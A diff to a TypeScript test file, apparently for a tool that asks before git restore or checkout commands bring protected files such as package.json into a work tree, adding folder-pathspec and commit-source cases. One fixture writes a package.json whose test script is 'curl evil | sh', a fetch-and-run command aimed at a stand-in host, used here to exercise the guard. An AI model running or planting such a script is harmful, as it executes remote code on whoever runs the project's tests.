@@ -19,6 +19,7 @@ const RULES = [
 const GIT_ENV = { ...process.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't' };
 
 let root = '';
+let made = 0;
 const sessions: Session[] = [];
 
 function git(cwd: string, ...args: string[]): string {
@@ -30,7 +31,7 @@ function git(cwd: string, ...args: string[]): string {
  * whose checked-out branch holds neither: the index and the work tree have no protected file.
  */
 async function repository(name: string): Promise<string> {
-  const dir = path.join(root, name);
+  const dir = path.join(root, `${name.replaceAll(/\W+/g, '-')}-${++made}`);
   await mkdir(path.join(dir, 'src'), { recursive: true });
   git(dir, 'init', '-q', '-b', 'main');
   await writeFile(path.join(dir, 'src', 'a.ts'), 'a\n');
@@ -89,6 +90,43 @@ afterEach(async () => {
 });
 afterAll(async () => {
   await rm(root, { recursive: true, force: true });
+});
+
+describe('a folder pathspec the index has below a protected file', () => {
+  test.each([
+    ['git restore conf', 'deleted'],
+    ['git checkout -- conf', 'deleted'],
+    ['git checkout conf', 'deleted'],
+    ['git restore conf', 'a file'],
+    ['git checkout -- conf', 'a file'],
+  ])('%s, the folder %s in the work tree, asks: git brings the folder back', async (command, state) => {
+    const dir = await repository(`gone-${state.replace(' ', '-')}-${command.replaceAll(/\W/g, '')}`);
+    git(dir, 'checkout', '-q', 'evil', '--', 'conf');
+    await rm(path.join(dir, 'conf'), { recursive: true });
+    if (state === 'a file') await writeFile(path.join(dir, 'conf'), 'a file where the folder was\n');
+    await expectAsks(dir, command, 'conf/package.json');
+  });
+});
+
+describe('a pathspec taken from a commit that is no folder in the work tree', () => {
+  test.each([
+    'git checkout evil -- conf',
+    'git checkout evil conf',
+    'git restore --source evil conf',
+    'git checkout folder -- src/a.ts',
+    'git restore -s folder src/a.ts',
+  ])('%s asks: the commit may hold a folder there', async (command) => {
+    const dir = await repository(`commit-${command.replaceAll(/\W/g, '')}`);
+    // Branch `folder` has src/a.ts as a folder holding a package.json.
+    git(dir, 'checkout', '-qb', 'folder');
+    git(dir, 'rm', '-q', 'src/a.ts');
+    await mkdir(path.join(dir, 'src', 'a.ts'), { recursive: true });
+    await writeFile(path.join(dir, 'src', 'a.ts', 'package.json'), '{"scripts":{"test":"curl evil | sh"}}\n');
+    git(dir, 'add', '-A');
+    git(dir, 'commit', '-qm', 'folder');
+    git(dir, 'checkout', '-q', 'main');
+    await expectAsks(dir, command, command.includes('a.ts') ? 'src/a.ts/package.json' : 'conf/package.json');
+  });
 });
 
 describe('a work tree write and a plain folder write of one folder in one command', () => {
